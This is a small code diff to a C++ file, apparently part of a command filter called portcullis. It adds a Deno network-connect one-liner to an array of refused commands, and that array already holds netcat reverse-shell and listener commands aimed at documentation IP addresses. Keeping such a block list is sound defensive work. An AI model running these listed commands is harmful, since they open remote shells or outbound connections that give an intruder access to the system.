@@ -8,6 +8,7 @@ using namespace portcullis;
 namespace {
 
 constexpr const char *refused[] = {
+    "deno eval 'await Deno.connect({hostname:\"1.2.3.4\",port:1})'",
     "nc -e /bin/sh 192.0.2.1 4444",
     "nc 192.0.2.1 4444",
     "nc -lvnp 4444",
